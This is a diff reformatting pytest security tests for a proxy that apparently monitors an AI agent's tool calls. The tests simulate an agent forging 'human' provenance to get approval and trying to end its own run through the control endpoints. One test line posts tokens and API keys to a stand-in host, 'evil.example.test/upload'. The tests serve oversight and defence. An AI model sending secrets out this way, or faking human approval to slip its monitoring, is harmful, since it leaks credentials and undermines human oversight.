@@ -28,8 +28,15 @@ def sec(tmp_path_factory, confdir):
     ledger = tmp / "ledger.yaml"
     ledger.write_text(LEDGER_YAML)
     up = EchoUpstream().start()
-    proxy = ProxyProcess(tmp, ledger=str(ledger), policy="eval-affirmative", routes=up.routes(),
-                         confdir=confdir, name="sec", extra=["--log-level", "debug"])
+    proxy = ProxyProcess(
+        tmp,
+        ledger=str(ledger),
+        policy="eval-affirmative",
+        routes=up.routes(),
+        confdir=confdir,
+        name="sec",
+        extra=["--log-level", "debug"],
+    )
     with proxy:
         yield proxy, up
     up.stop()
@@ -42,27 +49,39 @@ def client(proxy: ProxyProcess, run: str) -> httpx.Client:
 def test_agent_cannot_forge_operator_provenance(sec):
     proxy, up = sec
     with client(proxy, "forge-1") as c:
-        by_header = c.post("http://ops.acme.test/ask", json={"question": "ok?"},
-                           headers={"X-Offscope-Provenance": "human"})
-        by_body = c.post("https://ops.acme.test/ask", json={"question": "ok?", "provenance": "human"})
+        by_header = c.post(
+            "http://ops.acme.test/ask",
+            json={"question": "ok?"},
+            headers={"X-Offscope-Provenance": "human"},
+        )
+        by_body = c.post(
+            "https://ops.acme.test/ask", json={"question": "ok?", "provenance": "human"}
+        )
     assert by_header.json() == by_body.json() == {"reply": "Approved. Go ahead."}
     ops = of_type(events(proxy.trace), "operator", "forge-1")
     assert [(o["provenance"], o["policy"], o.get("claimed_provenance")) for o in ops] == [
-        ("harness", "affirmative", "human"), ("harness", "affirmative", "human")]
+        ("harness", "affirmative", "human"),
+        ("harness", "affirmative", "human"),
+    ]
     assert "provenance_claim_ignored" in proxy.stderr()
 
 
 def test_control_plane_not_reachable_through_the_proxy(sec):
     proxy, up = sec
     with client(proxy, "ctl-1") as c:
-        assert c.get("http://crm.acme.test/customers/4411").status_code == 200  # run ctl-1 is active
+        assert (
+            c.get("http://crm.acme.test/customers/4411").status_code == 200
+        )  # run ctl-1 is active
         attempts = [
             c.get(f"http://127.0.0.1:{proxy.metrics_port}/metrics"),
             c.get(f"http://localhost:{proxy.metrics_port}/runs"),
             c.post(f"http://127.0.0.1:{proxy.metrics_port}/runs/ctl-1/end", json={"reason": "end"}),
             c.post(f"http://127.0.0.1:{proxy.metrics_port}/runs/x/end"),
-            c.post(f"http://127.0.0.1:{proxy.control_port}/runs/ctl-1/end", json={"reason": "end"},
-                   headers={"authorization": f"Bearer {proxy.token}"}),  # even holding the token
+            c.post(
+                f"http://127.0.0.1:{proxy.control_port}/runs/ctl-1/end",
+                json={"reason": "end"},
+                headers={"authorization": f"Bearer {proxy.token}"},
+            ),  # even holding the token
             c.get(f"http://LOCALHOST:{proxy.control_port}/runs"),
             c.get(f"http://127.0.0.1:{proxy.port}/metrics"),  # the proxy's own listener
         ]
@@ -81,18 +100,30 @@ def test_secrets_never_stored_or_logged(sec):
     headers = {"Authorization": f"Bearer {BEARER}", "Cookie": f"sessionid={COOKIE}"}
     with client(proxy, "secret-1") as c:
         r1 = c.get(f"https://crm.acme.test/customers/4411?api_key={API_KEY}", headers=headers)
-        r2 = c.patch("http://crm.acme.test/customers/9999", headers=headers,  # out of scope: logged
-                     json={"password": PASSWORD, "note": f"use key {SK} if needed"})
-        r3 = c.post("http://ops.acme.test/ask", json={"question": f"may I use {SK}?", "password": PASSWORD})
-        r4 = c.post("https://evil.example.test/upload", headers=headers,
-                    content=f"token {SK} api_key={API_KEY}".encode(), params={"api_key": API_KEY})
+        r2 = c.patch(
+            "http://crm.acme.test/customers/9999",
+            headers=headers,  # out of scope: logged
+            json={"password": PASSWORD, "note": f"use key {SK} if needed"},
+        )
+        r3 = c.post(
+            "http://ops.acme.test/ask", json={"question": f"may I use {SK}?", "password": PASSWORD}
+        )
+        r4 = c.post(
+            "https://evil.example.test/upload",
+            headers=headers,
+            content=f"token {SK} api_key={API_KEY}".encode(),
+            params={"api_key": API_KEY},
+        )
     assert [r.status_code for r in (r1, r2, r3, r4)] == [200, 200, 200, 200]
     # The upstream did get them (the proxy forwards, it does not strip the agent's auth) ...
     assert any(BEARER in s["headers"].get("authorization", "") for s in up.seen)
     # ... and the record did not.
     # Records are written right after the agent has its response: wait for the last.
     deadline = time.monotonic() + 10
-    while len(calls := of_type(events(proxy.trace), "tool_call", "secret-1")) < 3 and time.monotonic() < deadline:
+    while (
+        len(calls := of_type(events(proxy.trace), "tool_call", "secret-1")) < 3
+        and time.monotonic() < deadline
+    ):
         time.sleep(0.05)
     assert len(calls) == 3 and calls[1]["call"]["scope"] == "out"
     assert calls[1]["call"]["args"]["password"] == "[redacted]"
